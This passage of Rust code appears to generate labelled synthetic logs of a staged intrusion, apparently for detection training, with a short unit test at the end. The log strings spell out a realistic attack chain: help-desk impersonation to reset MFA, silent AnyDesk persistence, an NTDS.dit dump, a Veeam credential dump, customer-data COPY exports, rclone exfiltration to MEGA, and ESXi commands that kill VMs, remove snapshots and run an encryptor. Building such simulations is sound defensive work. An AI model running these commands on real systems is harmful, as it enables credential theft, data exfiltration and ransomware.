    s.esx(
        t + 3 * MIN,
        ESX_SHELL,
        "shell",
        "[root]: vim-cmd vmsvc/power.off 12",
        p(),
    );
    s.esx(
        t + 5 * MIN,
        ESX_SHELL,
        "shell",
        "[root]: esxcli software vib update -d /vmfs/volumes/datastore1/ESXi-8.0U3-patch.zip",
        p(),
    );
    s.esx(
        t + 40 * MIN,
        ESX_SHELL,
        "shell",
        "[root]: esxcli system maintenanceMode set --enable false",
        p(),
    );
    s.esx(t + 45 * MIN, ESX_VOBD, "vobd", "[UserLevelCorrelator] 1093541022us: [esx.audit.ssh.disabled] SSH access has been disabled.", p());
}

fn attack(s: &mut Story, customers: usize) {
    let desk = format!("h.desk1@{MAIL}");
    let jdoe = format!("j.doe@{MAIL}");
    let smith = format!("admin.p.smith@{MAIL}");
    // Stage 1, day 21: the call, the resets, the session from the attacker's network.
    let t = at(21, 9, 12);
    s.ticket_call(
        t,
        41_877,
        "j.doe",
        "Lost phone - MFA and password reset",
        "phone",
        attack_tag(1, "help-desk call impersonating j.doe", &["j.doe"], &[]),
    );
    let a1 = |what| attack_tag(1, what, &[&jdoe], &[]);
    s.okta(
        t + 30_000,
        "user.mfa.factor.reset_all",
        &desk,
        Some(&jdoe),
        CORP_EGRESS,
        false,
        a1("MFA factors reset for j.doe"),
    );
    s.okta(
        t + 2 * MIN,
        "user.account.reset_password",
        &desk,
        Some(&jdoe),
        CORP_EGRESS,
        false,
        a1("password reset for j.doe"),
    );
    s.okta(
        t + 9 * MIN,
        "user.session.start",
        &jdoe,
        None,
        ATTACKER_IP,
        true,
        a1("session from the attacker's network"),
    );
    s.okta(
        t + 11 * MIN,
        "user.mfa.factor.activate",
        &jdoe,
        None,
        ATTACKER_IP,
        true,
        a1("attacker's phone enrolled"),
    );
    // Stage 2-3: in through the VPN to the jump host; AnyDesk.
    let t = at(21, 9, 40);
    s.logon(
        t,
        JMP01,
        "j.doe",
        10,
        "DESKTOP-7QK2M1",
        VPN_IP,
        "Negotiate",
        attack_tag(
            2,
            "RDP to the jump host from the VPN",
            &["NORTHGATE\\j.doe"],
            &["JMP01"],
        ),
    );
    let a3 = |what| attack_tag(3, what, &["NORTHGATE\\j.doe"], &["JMP01"]);
    s.process(
        t + 15 * MIN,
        JMP01,
        "NORTHGATE\\j.doe",
        "C:\\Users\\j.doe\\Downloads\\AnyDesk.exe",
        "\"C:\\Users\\j.doe\\Downloads\\AnyDesk.exe\"",
        "C:\\Windows\\explorer.exe",
        ("AnyDesk", "AnyDesk", "AnyDesk Software GmbH", "AnyDesk.exe"),
        a3("AnyDesk run from Downloads"),
    );
    s.process(t + 22 * MIN, JMP01, "NORTHGATE\\j.doe", "C:\\Users\\j.doe\\Downloads\\AnyDesk.exe", "\"C:\\Users\\j.doe\\Downloads\\AnyDesk.exe\" --install \"C:\\Program Files (x86)\\AnyDesk\" --start-with-win --silent", "C:\\Windows\\explorer.exe", ("AnyDesk", "AnyDesk", "AnyDesk Software GmbH", "AnyDesk.exe"), a3("AnyDesk installed silently"));
    s.service(
        t + 23 * MIN,
        JMP01,
        "AnyDesk Service",
        "\"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe\" --service",
        "auto start",
        a3("AnyDesk service installed"),
    );
    s.dns(
        t + 24 * MIN,
        JMP01,
        "6120",
        "relay-7f2a91c3.net.anydesk.com",
        "203.0.113.120",
        "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe",
        "NT AUTHORITY\\SYSTEM",
        a3("AnyDesk relay looked up"),
    );
    // Stage 4, day 22: discovery.
    let t = at(22, 10, 5);
    let a4 = |what| attack_tag(4, what, &["NORTHGATE\\j.doe"], &["JMP01"]);
    s.process(
        t,
        JMP01,
        "NORTHGATE\\j.doe",
        "C:\\Users\\j.doe\\AppData\\Local\\Temp\\ADExplorer64.exe",
        "ADExplorer64.exe -snapshot \"\" C:\\Users\\j.doe\\AppData\\Local\\Temp\\snap.dat",
        "C:\\Windows\\explorer.exe",
        (
            "Active Directory Editor",
            "Sysinternals ADExplorer",
            "Sysinternals - www.sysinternals.com",
            "ADExp",
        ),
        a4("AD snapshot with ADExplorer"),
    );
    s.process(
        t + 20 * MIN,
        JMP01,
        "NORTHGATE\\j.doe",
        "C:\\Windows\\System32\\nltest.exe",
        "nltest /domain_trusts /all_trusts",
        "C:\\Windows\\System32\\cmd.exe",
        (
            "Microsoft® Logon Server Test Utility",
            "Microsoft® Windows® Operating System",
            "Microsoft Corporation",
            "nltestrk.exe",
        ),
        a4("domain trusts listed"),
    );
    s.process(
        t + 22 * MIN,
        JMP01,
        "NORTHGATE\\j.doe",
        "C:\\Windows\\System32\\net.exe",
        "net group \"Domain Admins\" /domain",
        "C:\\Windows\\System32\\cmd.exe",
        (
            "Net Command",
            "Microsoft® Windows® Operating System",
            "Microsoft Corporation",
            "net.exe",
        ),
        a4("Domain Admins listed"),
    );
    // Stage 5, day 28: the second call, for the administrator; a Kerberoast.
    let t = at(28, 14, 2);
    s.ticket_call(
        t,
        42_310,
        "admin.p.smith",
        "New phone - cannot approve Okta Verify, please reset MFA and password",
        "phone",
        attack_tag(
            5,
            "help-desk call impersonating admin.p.smith",
            &["admin.p.smith"],
            &[],
        ),
    );
    let a5 = |what| attack_tag(5, what, &[&smith], &[]);
    s.okta(
        t + MIN,
        "user.mfa.factor.reset_all",
        &desk,
        Some(&smith),
        CORP_EGRESS,
        false,
        a5("MFA factors reset for admin.p.smith"),
    );
    s.okta(
        t + 3 * MIN,
        "user.account.reset_password",
        &desk,
        Some(&smith),
        CORP_EGRESS,
        false,
        a5("password reset for admin.p.smith"),
    );
    s.okta(
        t + 12 * MIN,
        "user.session.start",
        &smith,
        None,
        ATTACKER_IP,
        true,
        a5("admin session from the attacker's network"),
    );
    s.ticket(
        t + 40 * MIN,
        "j.doe",
        "svc_backup",
        JMP_IP,
        "0x17",
        attack_tag(
            5,
            "Kerberoast of svc_backup",
            &["NORTHGATE\\j.doe", "svc_backup"],
            &["JMP01", "DC01"],
        ),
    );
    // Stage 6, day 29 at night: NTDS.dit.
    let t = at(29, 23, 5);
    let smith_ad = "NORTHGATE\\admin.p.smith";
    s.logon(
        t,
        DC01,
        "admin.p.smith",
        10,
        "JMP01",
        JMP_IP,
        "Negotiate",
        attack_tag(
            8,
            "RDP to the DC as admin.p.smith",
            &[smith_ad],
            &["JMP01", "DC01"],
        ),
    );
    let a6 = |what| attack_tag(6, what, &[smith_ad], &["DC01"]);
    s.process(
        t + 6 * MIN,
        DC01,
        smith_ad,
        "C:\\Windows\\System32\\ntdsutil.exe",
        "ntdsutil.exe  \"ac i ntds\" ifm \"create full C:\\Windows\\Temp\\ifm\" q q",
        "C:\\Windows\\System32\\cmd.exe",
        (
            "NT5DS",
            "Microsoft® Windows® Operating System",
            "Microsoft Corporation",
            "ntdsutil.exe",
        ),
        a6("NTDS.dit copied with ntdsutil IFM"),
    );
    s.process(
        t + 14 * MIN,
        DC01,
        smith_ad,
        "C:\\Program Files\\7-Zip\\7z.exe",
        "7z.exe a -mx9 -pN0rthg4te! C:\\Windows\\Temp\\ifm.7z C:\\Windows\\Temp\\ifm\\*",
        "C:\\Windows\\System32\\cmd.exe",
        ("7-Zip Console", "7-Zip", "Igor Pavlov", "7z.exe"),
        a6("NTDS archive with a password"),
    );
    // Stage 7, day 30: a persistence account in Domain Admins and ESX Admins.
    let t = at(30, 0, 10);
    let a7 = |what| attack_tag(7, what, &[smith_ad, "svc-monitor"], &["DC01"]);
    s.security(
        t,
        DC01,
        4720,
        &[
            ("TargetUserName", "svc-monitor".into()),
            ("TargetDomainName", DOMAIN.into()),
            ("TargetSid", sid("svc-monitor")),
            ("SubjectUserName", "admin.p.smith".into()),
            ("SubjectDomainName", DOMAIN.into()),
            ("SamAccountName", "svc-monitor".into()),
            ("UserPrincipalName", format!("svc-monitor@{DNS}")),
        ],
        a7("account svc-monitor created"),
    );
    for (i, group) in ["Domain Admins", "ESX Admins"].iter().enumerate() {
        s.security(
            t + (2 + i as i64) * MIN,
            DC01,
            4728,
            &[
                (
                    "MemberName",
                    "CN=svc-monitor,OU=Service Accounts,DC=corp,DC=northgate,DC=example"
                        .to_string(),
                ),
                ("MemberSid", sid("svc-monitor")),
                ("TargetUserName", group.to_string()),
                ("TargetDomainName", DOMAIN.into()),
                ("TargetSid", sid(group)),
                ("SubjectUserName", "admin.p.smith".into()),
                ("SubjectDomainName", DOMAIN.into()),
            ],
            a7("svc-monitor added to a privileged group"),
        );
    }
    // Stage 8, day 36: PsExec to the backup server, Veeam's credentials.
    let t = at(36, 22, 30);
    let a8 = |what| attack_tag(8, what, &[smith_ad, "svc_backup"], &["JMP01", "BKP01"]);
    s.process(
        t,
        JMP01,
        smith_ad,
        "C:\\Users\\admin.p.smith\\Downloads\\PsExec64.exe",
        "PsExec64.exe -accepteula \\\\bkp01 -u NORTHGATE\\svc_backup -p ******** cmd.exe",
        "C:\\Windows\\System32\\cmd.exe",
        (
            "Execute processes remotely",
            "Sysinternals PsExec",
            "Sysinternals - www.sysinternals.com",
            "psexec.c",
        ),
        a8("PsExec to BKP01"),
    );
    s.logon(
        t + 2_000,
        BKP01,
        "svc_backup",
        3,
        "JMP01",
        JMP_IP,
        "NTLM",
        a8("network logon to BKP01 as svc_backup"),
    );
    s.service(
        t + 3_000,
        BKP01,
        "PSEXESVC",
        "%SystemRoot%\\PSEXESVC.exe",
        "demand start",
        a8("PsExec service on BKP01"),
    );
    s.process(t + 4 * MIN, BKP01, "NORTHGATE\\svc_backup", "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE", "sqlcmd.exe -S localhost\\VEEAMSQL2016 -E -y0 -Q \"SELECT TOP (1000) [user_name],[password],[description] FROM [VeeamBackup].[dbo].[Credentials]\"", "C:\\Windows\\PSEXESVC.exe", ("T-SQL execution command line utility", "Microsoft SQL Server", "Microsoft Corporation", "sqlcmd.exe"), a8("Veeam credentials dumped"));
    // Stage 9, day 50 at night: the customer database.
    let t = at(50, 23, 0);
    let a9 = |what| attack_tag(9, what, &["opsadmin", "svc_reports"], &["JMP01", "DB01"]);
    let msg = format!("Accepted password for opsadmin from {JMP_IP} port 50412 ssh2");
    s.syslog(
        t,
        DB_AUTH,
        "db01",
        "sshd",
        &msg,
        a9("SSH to DB01 as opsadmin"),
    );
    s.syslog(t + MIN, DB_AUTH, "db01", "sudo", "opsadmin : TTY=pts/0 ; PWD=/home/opsadmin ; USER=postgres ; COMMAND=/usr/bin/psql -U svc_reports retail_prod", a9("sudo to postgres"));
    s.pgaudit(
        t + 3 * MIN,
        "svc_reports",
        JMP_IP,
        "psql",
        "public.customers",
        "SELECT * FROM public.customers LIMIT 5",
        5,
        a9("probe of the customer table"),
    );
    let hi = 100_000 + (customers as u64 * 6 / 10).max(1);
    let stmt = format!(
        "COPY (SELECT customer_id, first_name, last_name, email, date_of_birth, phone FROM public.customers WHERE customer_id BETWEEN 100001 AND {hi}) TO STDOUT WITH CSV HEADER"
    );
    s.pgaudit(
        t + 10 * MIN,
        "svc_reports",
        JMP_IP,
        "psql",
        "public.customers",
        &stmt,
        0,
        a9("customers exported with COPY"),
    );
    let stmt = format!(
        "COPY (SELECT order_id, customer_id, delivery_postcode, items_json FROM public.orders WHERE customer_id BETWEEN 100001 AND {hi}) TO STDOUT WITH CSV HEADER"
    );
    s.pgaudit(
        t + 16 * MIN,
        "svc_reports",
        JMP_IP,
        "psql",
        "public.orders",
        &stmt,
        0,
        a9("orders exported with COPY"),
    );
    // Stage 10, day 51: out to MEGA with rclone.
    let t = at(51, 1, 30);
    let a10 = |what| attack_tag(10, what, &[smith_ad], &["JMP01"]);
    s.process(
        t,
        JMP01,
        smith_ad,
        "C:\\ProgramData\\sq\\rclone.exe",
        "rclone.exe copy C:\\ProgramData\\sq\\b1.7z mega:bk --transfers 4",
        "C:\\Windows\\System32\\cmd.exe",
        (
            "Rsync for cloud storage",
            "Rclone",
            "https://rclone.org",
            "rclone.exe",
        ),
        a10("rclone to MEGA"),
    );
    s.dns(
        t + 2_000,
        JMP01,
        "7311",
        "gfs270n117.userstorage.mega.co.nz",
        "203.0.113.200",
        "C:\\ProgramData\\sq\\rclone.exe",
        smith_ad,
        a10("MEGA storage looked up"),
    );
    for i in 0..6 {
        s.squid(
            t + 5_000 + i * 4 * MIN,
            JMP_IP,
            5_312_880,
            "POST",
            "https://gfs270n117.userstorage.mega.co.nz/ul/8kQz1xV3",
            "admin.p.smith",
            "rclone/v1.69.1",
            a10("archive uploaded to MEGA"),
        );
    }
    // Stage 12, day 80: the hypervisor.
    let t = at(80, 22, 40);
    let a12 = |what| {
        attack_tag(
            12,
            what,
            &["NORTHGATE\\svc-monitor", "root"],
            &["JMP01", "ESX01"],
        )
    };
    s.esx(t, ESX_HOSTD, "hostd", "[Originator@6876 sub=Vimsvc.ha-eventmgr] Event 4312 : User NORTHGATE\\svc-monitor@10.10.30.23 logged in as Mozilla/5.0 (Windows NT 10.0; Win64; x64)", a12("host client login as svc-monitor"));
    s.esx(t + 51_000, ESX_HOSTD, "hostd", "[Originator@6876 sub=Vimsvc.ha-eventmgr] Event 4320 : SSH for the host esx01.corp.northgate.example has been enabled", a12("SSH enabled"));
    s.esx(
        t + 52_000,
        ESX_VOBD,
        "vobd",
        "[UserLevelCorrelator] 1093541011us: [esx.audit.ssh.enabled] SSH access has been enabled.",
        a12("SSH enabled"),
    );
    s.esx(
        t + 2 * MIN,
        ESX_AUTH,
        "sshd",
        "Accepted keyboard-interactive/pam for root from 10.10.30.23 port 51734 ssh2",
        a12("root SSH from the jump host"),
    );
    let cmds = [
        "esxcli system settings kernel set -s execInstalledOnly -v FALSE",
        "esxcli vm process list",
        "esxcli vm process kill --type=force --world-id=2100874",
        "vim-cmd vmsvc/snapshot.removeall 12",
        "chmod +x /tmp/.svc/vmsyncd",
        "/tmp/.svc/vmsyncd -p /vmfs/volumes",
    ];
    for (i, c) in cmds.iter().enumerate() {
        s.esx(
            t + (3 + i as i64) * MIN,
            ESX_SHELL,
            "shell",
            &format!("[root]: {c}"),
            attack_tag(
                12,
                if i == 5 {
                    "encryptor run over the datastores"
                } else {
                    "ESXi shell command"
                },
                &["root"],
                &["ESX01"],
            ),
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn staff_names_stay_unique_past_the_initial_and_surname_combinations() {
        // 26 initials times 32 surnames give fewer than 900 names; scale 100 asks for 15,000.
        let people = staff(&mut Rng::new(1), 15_000);
        let names: std::collections::HashSet<&str> =
            people.iter().map(|p| p.sam.as_str()).collect();
        assert_eq!(names.len(), 15_000);
    }
}
